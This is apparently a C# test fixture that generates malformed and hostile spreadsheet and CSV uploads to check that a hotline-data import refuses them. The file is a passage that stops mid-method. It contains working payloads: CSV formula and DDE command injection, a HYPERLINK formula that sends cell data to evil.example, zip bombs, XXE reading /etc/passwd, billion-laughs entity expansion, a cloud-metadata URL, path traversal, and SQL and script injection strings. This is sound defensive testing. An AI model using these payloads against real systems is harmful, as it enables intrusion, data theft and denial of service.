using System.Security;
using System.Text;
using static Wuyi.Web.Tests.Hotline.HotlineFiles;

namespace Wuyi.Web.Tests.Hotline;

/// <summary>What the import must do with a file of the corpus.</summary>
public enum Expect
{
    /// <summary>A 400 problem in Chinese with one of the import's codes; nothing written.</summary>
    Refused,
    /// <summary>All of its rows imported.</summary>
    Imported,
}

/// <summary>One file of the corpus. <paramref name="Repeat"/> &gt; 1 sends <paramref name="Bytes"/> that many times (a huge upload, never held whole).</summary>
public sealed record HostileFile(string Name, string FileName, byte[] Bytes, Expect Expect, int Rows = 0, int Repeat = 1)
{
    public long Length => (long)Bytes.Length * Repeat;

    public override string ToString() => Name;
}

/// <summary>
/// The corpus of malformed and hostile hotline exports, generated deterministically (no binary files in the repository):
/// truncations at many offsets, encodings, formula payloads, zip bombs, XXE and entity expansion, huge cells and rows,
/// broken headers, wrong types in every column, NUL bytes, files of other kinds under a spreadsheet's name.
/// Valid rows use <paramref name="community"/> and complaint numbers unique to each file.
/// </summary>
public sealed class HostileFiles(string community, string streetName, string communityName)
{
    private readonly List<HostileFile> _files = [];
    private static readonly Encoding Utf8 = new UTF8Encoding(false);

    public static IReadOnlyList<HostileFile> All(string community, string streetName, string communityName)
    {
        var b = new HostileFiles(community, streetName, communityName);
        b.Truncated();
        b.Encodings();
        b.Formulas();
        b.Bombs();
        b.Entities();
        b.Sizes();
        b.Headers();
        b.WrongTypes();
        b.Odd();
        b.OtherKinds();
        b.XlsxStructure();
        return b._files;
    }

    /// <summary>A tag for the next file's complaint numbers.</summary>
    private string Tag => $"h{_files.Count}";

    private string[] Rows(int n) => [.. Enumerable.Range(1, n).Select(i => Row($"{community}-{Tag}n{i}", community, 1 + i % 10))];

    private void Add(string name, byte[] bytes, Expect expect, int rows = 0, string? fileName = null) =>
        _files.Add(new(name, fileName ?? "12345导出.csv", bytes, expect, rows));

    private void AddXlsx(string name, byte[] bytes, Expect expect, int rows = 0) => Add(name, bytes, expect, rows, "12345导出.xlsx");

    private static byte[] Text(string s, Encoding? e = null) => (e ?? Utf8).GetBytes(s);

    private static string Lines(IEnumerable<string> rows, string header = Header) => string.Join("\r\n", rows.Prepend(header)) + "\r\n";

    // ---- truncation ------------------------------------------------------------------------------------------

    private void Truncated()
    {
        // A UTF-8 file with a quoted multi-line field and Chinese text in every row, cut at many offsets. A cut that
        // ends exactly at a line break leaves a shorter, complete file; every other cut must be refused.
        var header = Header + ",诉求内容";
        var full = Utf8.GetBytes(Lines(Rows(4).Select((r, i) => r + $",\"居民反映：第{i}处卡口\r\n无人值守，“扫码”流于形式\""), header));
        for (var cut = 1; cut < full.Length; cut += Math.Max(1, full.Length / 90))
        {
            if (full[cut - 1] is (byte)'\n' or (byte)'\r') continue;
            Add($"csv-utf8-cut-{cut}", full[..cut], Expect.Refused);
        }
        // Cuts inside a multi-byte character, of UTF-8 and of GB18030.
        var at = full.AsSpan().LastIndexOf(Encoding.UTF8.GetBytes("是"));
        foreach (var d in new[] { 1, 2 }) Add($"csv-utf8-cut-mid-char-{d}", full[..(at + d)], Expect.Refused);
        var gb = Encoding.GetEncoding("GB18030").GetBytes(Lines(Rows(3).Select(r => r + ",卡口无人值守"), header));
        for (var cut = gb.Length - 1; cut > gb.Length - 14; cut--)
            if (gb[cut - 1] is not ((byte)'\n' or (byte)'\r')) Add($"csv-gb18030-cut-{cut}", gb[..cut], Expect.Refused);
        // Cut after the last separator: every field there but the last, optional one.
        var rows = Rows(2);
        var cutAfterComma = Lines(rows);
        Add("csv-cut-after-last-separator", Text(cutAfterComma[..(cutAfterComma.TrimEnd().LastIndexOf(',') + 1)]), Expect.Refused);

        var xlsx = Xlsx(XlsxRows(Rows(3)));
        for (var cut = 1; cut < xlsx.Length; cut += Math.Max(1, xlsx.Length / 40)) AddXlsx($"xlsx-cut-{cut}", xlsx[..cut], Expect.Refused);
        AddXlsx("xlsx-cut-last-byte", xlsx[..^1], Expect.Refused);
        AddXlsx("xlsx-no-central-directory", xlsx[..(xlsx.Length - 22)], Expect.Refused);
    }

    // ---- encodings -------------------------------------------------------------------------------------------

    private void Encodings()
    {
        var gb18030 = Encoding.GetEncoding("GB18030");
        // What Chinese Excel writes for "CSV": must be read, not refused.
        Add("csv-gb18030", Text(Lines(Rows(3)), gb18030), Expect.Imported, 3);
        Add("csv-gb18030-lf", Text(Lines(Rows(3)).Replace("\r\n", "\n"), gb18030), Expect.Imported, 3);
        Add("csv-gb18030-names", Text(Lines(NamedRows(3), NamedHeader), gb18030), Expect.Imported, 3);
        Add("csv-gb18030-four-byte-chars", Text(Lines(Rows(2).Select(r => r + ",𠀀𪚥😷"), Header + ",诉求内容"), gb18030), Expect.Imported, 2);
        // Longer than the encoding sniffer's sample, with the first non-ASCII byte after it.
        var late = Rows(1200).Select((r, i) => i == 1100 ? r : r.Replace(",是,", ",y,").Replace(",满意", ",satisfied"));
        var lateHeader = "number,receivedat,communitycode,epidemicrelated,responsedeadline,respondedat,followup";
        Add("csv-gb18030-chinese-after-64k", Text(Lines(late, lateHeader), gb18030), Expect.Imported, 1200);
        Add("csv-gb18030-large", Text(Lines(Rows(3000)), gb18030), Expect.Imported, 3000);
        Add("csv-utf8-bom", [0xEF, 0xBB, 0xBF, .. Text(Lines(Rows(2)))], Expect.Imported, 2);
        Add("csv-utf16le-bom", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Lines(Rows(2)))], Expect.Imported, 2);
        Add("csv-utf16be-bom", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes(Lines(Rows(2)))], Expect.Imported, 2);
        Add("csv-utf16le-bom-tabs", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Lines(Rows(2), Header).Replace(',', '\t'))], Expect.Imported, 2); // Excel's "Unicode text"
        Add("csv-utf16le-no-bom", Encoding.Unicode.GetBytes(Lines(Rows(2))), Expect.Refused);
        Add("csv-utf16be-no-bom", Encoding.BigEndianUnicode.GetBytes(Lines(Rows(2))), Expect.Refused);
        Add("csv-utf16le-bom-only", [0xFF, 0xFE], Expect.Refused);
        Add("csv-utf32le-bom", [0xFF, 0xFE, 0, 0, .. new UTF32Encoding(false, false).GetBytes(Lines(Rows(2)))], Expect.Imported, 2);
        var big5 = Encoding.GetEncoding(950);
        Add("csv-big5", Text(Lines(Rows(2)), big5), Expect.Refused);
        Add("csv-big5-ascii-header", Text(Lines(Rows(2), "number,receivedat,communitycode,epidemicrelated,responsedeadline,respondedat,followup"), big5), Expect.Refused);
        Add("csv-big5-names", Text(Lines(NamedRows(2), NamedHeader), big5), Expect.Refused);
        var latin1 = Encoding.Latin1;
        Add("csv-latin1-names", Text(Lines(["x1,2022-06-05 10:00:00,Cafè,Crème,yes,2022-06-06 10:00:00,,"], "number,receivedat,street,community,epidemicrelated,responsedeadline,respondedat,followup"), latin1), Expect.Refused);
        Add("csv-latin1-header", Text(Lines(Rows(1), "Numéro,Reçu,Communauté,Épidémie,Délai,Réponse,Suivi"), latin1), Expect.Refused);
        Add("csv-shift-jis", Text(Lines(Rows(2)), Encoding.GetEncoding(932)), Expect.Refused);
        Add("csv-windows-1252-quotes", Text(Lines(Rows(2).Select(r => r.Replace("满意", "\u201Csatisfied\u201D"))), Encoding.GetEncoding(1252)), Expect.Refused);
        // Mixed: UTF-8 for the first 64 KB, then a GB18030 row; and the other way round.
        var mixed = Text(Lines(Rows(1200)));
        Add("csv-utf8-then-gb18030", [.. mixed, .. Text(Row($"{community}-{Tag}m", community, 3) + "\r\n", gb18030)], Expect.Refused);
        Add("csv-gb18030-then-utf8", [.. Text(Lines(Rows(2)), gb18030), .. Text(Row($"{community}-{Tag}m", community, 3) + "\r\n")], Expect.Refused);
        Add("csv-utf8-invalid-byte-in-field", [.. Text(Header + "\r\n"), .. Text($"{community}-{Tag}x,2022-06-05 10:00:00,{community},"), 0xFF, .. Text(",2022-06-06 10:00:00,,\r\n")], Expect.Refused);
        Add("csv-utf8-overlong", [.. Text(Header + "\r\n"), .. Text($"{community}-{Tag}x,2022-06-05 10:00:00,{community},"), 0xC0, 0xAF, .. Text(",2022-06-06 10:00:00,,\r\n")], Expect.Refused);
        Add("csv-cesu-surrogates", [.. Text(Header + "\r\n"), .. Text($"{community}-{Tag}x,2022-06-05 10:00:00,{community},是,2022-06-06 10:00:00,,满意"), 0xED, 0xA0, 0xBD, 0xED, 0xB8, 0xB7, .. Text("\r\n")], Expect.Refused);
    }

    private const string NamedHeader = "工单编号,受理时间,街道,社区名称,是否涉疫,答复时限,答复时间,回访结果";

    private IEnumerable<string> NamedRows(int n) => Enumerable.Range(1, n).Select(i =>
        $"{community}-{Tag}g{i},2022-06-0{i} 09:00:00,{streetName},{communityName},是,2022-06-0{i + 1} 09:00:00,,未回访");

    // ---- formula payloads ------------------------------------------------------------------------------------

    private void Formulas()
    {
        string[] payloads =
        [
            "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "\t=1+1", "\r=1+1", "=1+1", "＝1+1",
        ];
        var i = 0;
        foreach (var p in payloads)
        {
            var quoted = "\"" + p.Replace("\"", "\"\"") + "\"";
            var column = i++ % 5;
            // The payload in a column the import reads: the row is refused.
            var row = Row($"{community}-{Tag}f", community, 5).Split(',');
            row[column == 2 ? 0 : column] = quoted;
            Add($"csv-formula-{i}-col{column}", Text(Lines([string.Join(',', row)])), Expect.Refused);
        }
        // In a column the import does not keep: imported, and nothing of the payload is stored.
        Add("csv-formula-ignored-column", Text(Lines(Rows(2).Select(r => r + ",\"=cmd|' /C calc'!A0\""), Header + ",诉求内容")), Expect.Imported, 2);
        AddXlsx("xlsx-formula-number", Xlsx([HeaderCells, ["=cmd|' /C calc'!A0", "2022-06-05 10:00:00", community, "是", "2022-06-06 10:00:00", null, null]]), Expect.Refused);
        // A real formula cell whose cached value is a command.
        AddXlsx("xlsx-formula-cell", Package(Sheet(HeaderRow() +
            $"<row r=\"2\"><c r=\"A2\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>=cmd|' /C calc'!A0</v></c>{Inline("B2", "2022-06-05 10:00:00")}{Inline("C2", community)}" +
            $"{Inline("D2", "是")}{Inline("E2", "2022-06-06 10:00:00")}</row>")), Expect.Refused);
    }

    // ---- zip bombs -------------------------------------------------------------------------------------------

    private void Bombs()
    {
        const string sheetStart = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";
        const string sheetEnd = "</sheetData></worksheet>";
        var header = HeaderRow();
        // The sheet inflates to about 3 GB and says so.
        var honest = HostileZip.Bomb(sheetStart + header, "<row/>", sheetEnd, 3L << 30);
        AddXlsx("xlsx-bomb-3gb-declared", Parts(sheet: null).AddRaw("xl/worksheets/sheet1.xml", honest, 3u << 30).ToArray(), Expect.Refused);
        // The same, but it claims to be 40 KB.
        AddXlsx("xlsx-bomb-3gb-lying", Parts(sheet: null).AddRaw("xl/worksheets/sheet1.xml", honest, 40_000).ToArray(), Expect.Refused);
        // Under the size bound, but a thousand to one: empty rows, whitespace, an endless attribute.
        var rows = HostileZip.Bomb(sheetStart + header, "<row/>", sheetEnd, 400L << 20);
        AddXlsx("xlsx-bomb-400mb-empty-rows", Parts(sheet: null).AddRaw("xl/worksheets/sheet1.xml", rows, 400u << 20).ToArray(), Expect.Refused);
        var spaces = HostileZip.Bomb(sheetStart + header, "        ", sheetEnd, 400L << 20);
        AddXlsx("xlsx-bomb-400mb-whitespace", Parts(sheet: null).AddRaw("xl/worksheets/sheet1.xml", spaces, 400u << 20).ToArray(), Expect.Refused);
        var attribute = HostileZip.Bomb(sheetStart + header + "<row r=\"2\" x=\"", "AAAAAAAA", "\"/>" + sheetEnd, 400L << 20);
        AddXlsx("xlsx-bomb-400mb-attribute", Parts(sheet: null).AddRaw("xl/worksheets/sheet1.xml", attribute, 400u << 20).ToArray(), Expect.Refused);
        // Shared strings: millions of them, honest and lying.
        var strings = HostileZip.Bomb("<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">", "<si><t>x</t></si>", "</sst>", 600L << 20);
        AddXlsx("xlsx-bomb-shared-strings", Parts(sheet: Sheet(header), sharedStrings: null).AddRaw("xl/sharedStrings.xml", strings, 600u << 20).ToArray(), Expect.Refused);
        AddXlsx("xlsx-bomb-shared-strings-lying", Parts(sheet: Sheet(header), sharedStrings: null).AddRaw("xl/sharedStrings.xml", strings, 9_000).ToArray(), Expect.Refused);
        // Another part inflates: the workbook itself, and a part nobody reads.
        var book = HostileZip.Bomb("<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><!--", "--------", "--></workbook>", 2L << 30);
        AddXlsx("xlsx-bomb-workbook", Parts(sheet: Sheet(header), workbook: null).AddRaw("xl/workbook.xml", book, 2u << 30).ToArray(), Expect.Refused);
        AddXlsx("xlsx-bomb-unread-part", Parts(sheet: Sheet(header + DataRows(Rows(1)))).AddRaw("xl/media/image1.png", book, 2u << 30).ToArray(), Expect.Refused);
        // Many entries.
        var many = Parts(sheet: Sheet(header + DataRows(Rows(1))));
        for (var i = 0; i < 12_000; i++) many.Add($"xl/junk/{i}.bin", [(byte)i]);
        AddXlsx("xlsx-12000-entries", many.ToArray(), Expect.Refused);
        // Nested: a zip of a bomb inside, never opened.
        var nested = new HostileZip().AddRaw("bomb.xml", book, 2u << 30).ToArray();
        // Stored as it is, the nested zip is a part like an image: never opened, the rows are read.
        AddXlsx("xlsx-nested-zip-bomb-stored", Parts(sheet: Sheet(header + DataRows(Rows(1)))).AddStored("xl/embeddings/bomb.zip", nested).ToArray(), Expect.Imported, 1);
        // Deflated again, its repetitions deflate too: the ratio gives it away.
        AddXlsx("xlsx-nested-zip-bomb-deflated", Parts(sheet: Sheet(header + DataRows(Rows(1)))).Add("xl/embeddings/bomb.zip", nested).ToArray(), Expect.Refused);
        var xlsxInXlsx = Parts(sheet: Sheet(header + DataRows(Rows(1)))).Add("xl/embeddings/Book1.xlsx", new HostileZip().Add("[Content_Types].xml", nested).ToArray());
        AddXlsx("xlsx-nested-xlsx", xlsxInXlsx.ToArray(), Expect.Imported, 1);
    }

    // ---- XXE, DTDs and entity expansion ----------------------------------------------------------------------

    private void Entities()
    {
        const string xxe = "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        const string remote = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/evil.dtd\"> %p;]>";
        const string laughs = "<!DOCTYPE x [<!ENTITY a \"lollollollollollollollollollol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">" +
            "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">" +
            "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">" +
            "<!ENTITY i \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\">]>";
        const string plain = "<!DOCTYPE worksheet>";
        var row = DataRows(Rows(1));
        foreach (var (kind, dtd, use) in new[] { ("xxe", xxe, "&xxe;"), ("remote-dtd", remote, ""), ("billion-laughs", laughs, "&i;"), ("doctype", plain, "") })
        {
            var decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + dtd;
            AddXlsx($"xlsx-{kind}-in-sheet", Package(decl + Sheet(HeaderRow() + $"<row r=\"2\">{InlineRaw("A2", use)}</row>" + row)), Expect.Refused);
            AddXlsx($"xlsx-{kind}-in-shared-strings", Parts(Sheet(HeaderRow() + row + "<row r=\"9\"><c r=\"A9\" t=\"s\"><v>0</v></c></row>"),
                sharedStrings: decl + $"<sst xmlns=\"{Main}\"><si><t>{use}</t></si></sst>").ToArray(), Expect.Refused);
            AddXlsx($"xlsx-{kind}-in-workbook", Parts(Sheet(HeaderRow() + row), workbook: decl + Workbook(use)).ToArray(), Expect.Refused);
            AddXlsx($"xlsx-{kind}-in-content-types", Parts(Sheet(HeaderRow() + row), contentTypes: decl + ContentTypes(true).Replace("<Types", $"<!--{use}--><Types")).ToArray(), Expect.Refused);
            AddXlsx($"xlsx-{kind}-in-rels", Parts(Sheet(HeaderRow() + row), rels: decl + RootRels).ToArray(), Expect.Refused);
        }
        // External targets: the sheet or shared strings "live" on a server or on this machine.
        AddXlsx("xlsx-external-sheet", Parts(Sheet(HeaderRow() + row), workbookRels: WorkbookRels("http://169.254.169.254/latest/meta-data/\" TargetMode=\"External")).ToArray(), Expect.Refused);
        AddXlsx("xlsx-sheet-outside-package", Parts(Sheet(HeaderRow() + row), workbookRels: WorkbookRels("../../../../etc/passwd")).ToArray(), Expect.Refused);
        AddXlsx("xlsx-sheet-file-uri", Parts(Sheet(HeaderRow() + row), workbookRels: WorkbookRels("file:///etc/passwd\" TargetMode=\"External")).ToArray(), Expect.Refused);
        AddXlsx("xlsx-xinclude", Package(Sheet(HeaderRow() + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>" + row)), Expect.Imported, 1);
    }

    // ---- sizes -----------------------------------------------------------------------------------------------

    private void Sizes()
    {
        var huge = new string('疫', (10 << 20) / 3); // 10 MB of UTF-8
        Add("csv-10mb-field-ignored-column", Text(Lines(Rows(1).Select(r => r + "," + huge), Header + ",诉求内容")), Expect.Refused);
        Add("csv-10mb-field-number", Text(Lines([$"{huge},2022-06-05 10:00:00,{community},是,2022-06-06 10:00:00,,"])), Expect.Refused);
        Add("csv-10mb-quoted-field", Text(Lines(Rows(1).Select(r => r + ",\"" + huge + "\""), Header + ",诉求内容")), Expect.Refused);
        Add("csv-10mb-unclosed-quote", Text(Header + "\r\n\"" + huge), Expect.Refused);
        Add("csv-10mb-header", Text(huge + "\r\n" + string.Join("\r\n", Rows(1)) + "\r\n"), Expect.Refused);
        Add("csv-2mb-row-of-separators", Text(Lines(Rows(1).Select(r => r + new string(',', 2 << 20)))), Expect.Refused);
        Add("csv-10mb-one-line-no-breaks", Text(new string('a', 10 << 20)), Expect.Refused);
        Add("csv-5000-columns", Text(Lines(Rows(2).Select(r => r + string.Concat(Enumerable.Repeat(",x", 5000))), Header + string.Concat(Enumerable.Range(0, 5000).Select(i => $",c{i}")))), Expect.Imported, 2);
        Add("csv-50000-short-rows", Text(Lines(Enumerable.Repeat("a", 50_000))), Expect.Refused);
        _files.Add(new("csv-over-200mb", "12345导出.csv", Text(Lines(Rows(1)) + new string('#', 1 << 20)), Expect.Refused, Repeat: 205));

        var hugeCell = new string('疫', 40_000);
        AddXlsx("xlsx-10mb-shared-string", Parts(Sheet(HeaderRow() + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row>"),
            sharedStrings: $"<sst xmlns=\"{Main}\"><si><t>{huge}</t></si></sst>").ToArray(), Expect.Refused);
        AddXlsx("xlsx-10mb-inline-string", Package(Sheet(HeaderRow() + $"<row r=\"2\">{Inline("A2", huge)}</row>")), Expect.Refused);
        AddXlsx("xlsx-40000-char-cell-ignored-column", Package(Sheet(HeaderRow() + $"<row r=\"2\">{Inline("J2", hugeCell)}</row>" + DataRows(Rows(1)))), Expect.Refused);
        AddXlsx("xlsx-10mb-number-cell", Package(Sheet(HeaderRow() + $"<row r=\"2\"><c r=\"A2\"><v>{new string('9', 10 << 20)}</v></c></row>")), Expect.Refused);
        AddXlsx("xlsx-5000-columns", Package(Sheet(HeaderRow() + DataRows(Rows(2)).Replace("</row>", string.Concat(Enumerable.Range(10, 5000).Select(i => Inline(ColumnName(i) + "9", "x"))) + "</row>"))), Expect.Imported, 2);
        AddXlsx("xlsx-column-beyond-xfd", Package(Sheet(HeaderRow().Replace("</row>", Inline("XFE1", "x") + "</row>") + DataRows(Rows(1)))), Expect.Refused);
        AddXlsx("xlsx-column-zzzzzzz", Package(Sheet(HeaderRow().Replace("</row>", Inline("ZZZZZZZ1", "x") + "</row>") + DataRows(Rows(1)))), Expect.Refused);
        AddXlsx("xlsx-column-overflow", Package(Sheet(HeaderRow().Replace("</row>", Inline("ZZZZZZZZZZZZZZ1", "x") + "</row>") + DataRows(Rows(1)))), Expect.Refused);
        AddXlsx("xlsx-30000-empty-rows-then-data", Package(Sheet(HeaderRow() + string.Concat(Enumerable.Range(2, 30_000).Select(i => $"<row r=\"{i}\"/>")) + DataRows(Rows(1), 30_002))), Expect.Imported, 1);
        AddXlsx("xlsx-100000-cells-without-value", Package(Sheet(HeaderRow() + "<row r=\"2\">" + string.Concat(Enumerable.Range(0, 100_000).Select(_ => "<c/>")) + "</row>" + DataRows(Rows(1), 3))), Expect.Refused);
    }

    // ---- headers ---------------------------------------------------------------------------------------------

    private void Headers()
    {
        var columns = Header.Split(',');
        Add("csv-duplicate-header", Text(Lines(Rows(1).Select(r => r + ",x"), Header + ",工单号")), Expect.Refused);
        Add("csv-duplicate-header-same-name", Text(Lines(Rows(1).Select(r => r + ",2022-06-05 10:00:00"), Header + ",受理时间")), Expect.Refused);
        Add("csv-duplicate-header-alias-case", Text(Lines(Rows(1).Select(r => r + ",x"), Header + ",NUMBER")), Expect.Refused);
        foreach (var i in new[] { 0, 1, 2, 3, 4 })
        {
            var header = string.Join(',', columns.Select((c, j) => j == i ? "备注" : c));
            Add($"csv-missing-header-{columns[i]}", Text(Lines(Rows(1), header)), Expect.Refused);
        }
        Add("csv-no-header", Text(string.Join("\r\n", Rows(2)) + "\r\n"), Expect.Refused);
        Add("csv-header-only", Text(Header + "\r\n"), Expect.Refused);
        Add("csv-header-only-no-break", Text(Header), Expect.Refused);
        Add("csv-empty-header-cells", Text(Lines(Rows(1), ",,,,,,")), Expect.Refused);
        Add("csv-header-of-quotes", Text(Lines(Rows(1), "\"\"\"\",\"\"\"\"")), Expect.Refused);
        Add("csv-header-second-line", Text("12345诉求导出\r\n" + Lines(Rows(1))), Expect.Refused);
        AddXlsx("xlsx-duplicate-header", Xlsx([[.. HeaderCells, "工单号"], [$"{community}-{Tag}d", "2022-06-05 10:00:00", community, "是", "2022-06-06 10:00:00", null, null, "x"]]), Expect.Refused);
        AddXlsx("xlsx-missing-header", Xlsx([HeaderCells[1..], ["2022-06-05 10:00:00", community, "是", "2022-06-06 10:00:00"]]), Expect.Refused);
        AddXlsx("xlsx-header-only", Xlsx([HeaderCells]), Expect.Refused);
    }

    // ---- wrong types in every column -------------------------------------------------------------------------

    private void WrongTypes()
    {
        (int Column, string Value)[] wrong =
        [
            (0, "１２３４５"), (0, "12345 67"), (0, new string('9', 65)), (0, "../../etc/passwd"), (0, "<script>alert(1)</script>"), (0, "工单一"),
            (1, "2022-02-30 10:00:00"), (1, "昨天"), (1, "1654041600"), (1, "44718.5"), (1, "-1"), (1, "1999-12-31 10:00:00"), (1, "9999-12-31 23:59:59"),
            (1, "2022-06-05 25:00:00"), (1, "NaN"), (1, "2022-06-05T10:00:00+99:00"),
            (2, "abcdefghijkl"), (2, "1101080010011"), (2, "１１０１０８００１００１"), (2, "110108001001;DROP TABLE x"), (2, "000000000000"), (2, "-110108001001"),
            (3, "也许"), (3, "2"), (3, "TRUE!"), (3, "是的"),
            (4, "明天"), (4, "2022-06-04 10:00:00"), (4, "0"),
            (5, "不知道"), (5, "2022-06-01 10:00:00"), (5, "2099-01-01 00:00:00"),
            (6, "还行"), (6, "5"), (6, "满意满意"),
        ];
        var i = 0;
        foreach (var (column, value) in wrong)
        {
            var row = Row($"{community}-{Tag}w", community, 5).Split(',');
            row[column] = "\"" + value.Replace("\"", "\"\"") + "\"";
            Add($"csv-wrong-type-{i++}-col{column}", Text(Lines([.. Rows(2), string.Join(',', row)])), Expect.Refused);
        }
        // Valid rows with one bad row: all or nothing.
        Add("csv-999-good-1-bad", Text(Lines([.. Rows(999), Row($"{community}-{Tag}z", "999999999999", 5)])), Expect.Refused);
        Add("csv-duplicate-number", Text(Lines([.. Rows(2), Rows(1)[0]])), Expect.Refused);
        Add("csv-fewer-fields", Text(Lines([.. Rows(1), $"{community}-{Tag}s,2022-06-05 10:00:00,{community},是"])), Expect.Refused);
        Add("csv-more-fields", Text(Lines([.. Rows(1), Rows(2)[1] + ",x,y,z"])), Expect.Refused);
        Add("csv-other-community-scope", Text(Lines([Row($"{community}-{Tag}o", "110000000000", 5)])), Expect.Refused);
        var booleanNumber = Xlsx([HeaderCells, [$"{community}-{Tag}b", 44718.0, community, 2.0, 44719.0, null, null]]);
        AddXlsx("xlsx-number-in-yes-no", booleanNumber, Expect.Refused);
        AddXlsx("xlsx-error-cells", Package(Sheet(HeaderRow() + $"<row r=\"2\">{Inline("A2", $"{community}-{Tag}e")}<c r=\"B2\" t=\"e\"><v>#N/A</v></c>{Inline("C2", community)}" +
            $"{Inline("D2", "是")}<c r=\"E2\" t=\"e\"><v>#VALUE!</v></c></row>")), Expect.Refused);
        AddXlsx("xlsx-serial-out-of-range", Xlsx([HeaderCells, [$"{community}-{Tag}r", 1e308, community, "是", double.Epsilon, null, null]]), Expect.Refused);
        AddXlsx("xlsx-shared-string-index-out-of-range", Package(Sheet(HeaderRow() + "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>99999999</v></c><c r=\"B2\" t=\"s\"><v>-1</v></c><c r=\"C2\" t=\"s\"><v>1e10</v></c></row>")), Expect.Refused);
        AddXlsx("xlsx-boolean-cells", Package(Sheet(HeaderRow() + $"<row r=\"2\"><c r=\"A2\" t=\"b\"><v>1</v></c>{Inline("B2", "2022-06-05 10:00:00")}{Inline("C2", community)}<c r=\"D2\" t=\"b\"><v>7</v></c>{Inline("E2", "2022-06-06 10:00:00")}</row>")), Expect.Refused);
    }

    // ---- odd bytes -------------------------------------------------------------------------------------------

    private void Odd()
    {
        Add("empty", [], Expect.Refused);
        Add("bom-only-utf8", [0xEF, 0xBB, 0xBF], Expect.Refused);
        Add("bom-only-utf16be", [0xFE, 0xFF], Expect.Refused);
        Add("bom-then-newlines", [0xEF, 0xBB, 0xBF, .. Text("\r\n\r\n\r\n")], Expect.Refused);
        Add("whitespace-only", Text("   \t  "), Expect.Refused);
        Add("newlines-only", Text(new string('\n', 10_000)), Expect.Refused);
        Add("separators-only", Text(",,,,,,\r\n,,,,,,\r\n"), Expect.Refused);
        Add("one-nul", [0], Expect.Refused);
        Add("nul-in-header", Text(Lines(Rows(1), Header.Replace("受理时间", "受理\0时间"))), Expect.Refused);
        Add("nul-in-number", Text(Lines([Row($"{community}-{Tag}\0x", community, 5)])), Expect.Refused);
        Add("nul-after-64k-in-number", Text(Lines([.. Rows(1200), Row($"{community}-{Tag}\0x", community, 5)])), Expect.Refused);
        Add("nul-after-64k-in-yes-no", Text(Lines([.. Rows(1200), Row($"{community}-{Tag}y", community, 5).Replace(",是,", ",是\0,")])), Expect.Refused);
        Add("nul-bytes-only", new byte[4096], Expect.Refused);
        Add("control-characters", Text(Lines([Row($"{community}-{Tag}\u0007\u001b[31m", community, 5)])), Expect.Refused);
        Add("bidi-override-in-number", Text(Lines([Row($"{community}-{Tag}\u202Ex", community, 5)])), Expect.Refused);
        Add("unclosed-quote-at-start", Text(Header + "\r\n\"" + string.Join("\r\n", Rows(50)) + "\r\n"), Expect.Refused);
        Add("quote-inside-unquoted-field", Text(Lines([Row($"{community}-{Tag}q", community, 5).Replace(",是,", ",是\"x,")])), Expect.Refused);
        Add("text-after-closing-quote", Text(Lines([Row($"{community}-{Tag}q", community, 5).Replace(",是,", ",\"是\"x,")])), Expect.Refused);
        Add("cr-only-line-breaks", Text(Lines(Rows(2)).Replace("\r\n", "\r")), Expect.Imported, 2);
        Add("sep-hint-semicolon", Text("sep=;\r\n" + Lines(Rows(2)).Replace(',', ';')), Expect.Imported, 2);
    }

    // ---- files of other kinds under a spreadsheet's name -----------------------------------------------------

    private void OtherKinds()
    {
        byte[] png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89];
        byte[] jpeg = [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, (byte)'J', (byte)'F', (byte)'I', (byte)'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xD9];
        byte[] gif = [.. "GIF89a"u8, 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3B];
        byte[] pdf = [.. "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"u8];
        byte[] ole2 = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Text("Workbook")];
        byte[] gzip = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        byte[] rar = [.. "Rar!\x1A\x07\x01\x00"u8, 0, 0, 0, 0];
        byte[] sevenZip = [(byte)'7', (byte)'z', 0xBC, 0xAF, 0x27, 0x1C, 0, 4, 0, 0, 0, 0];
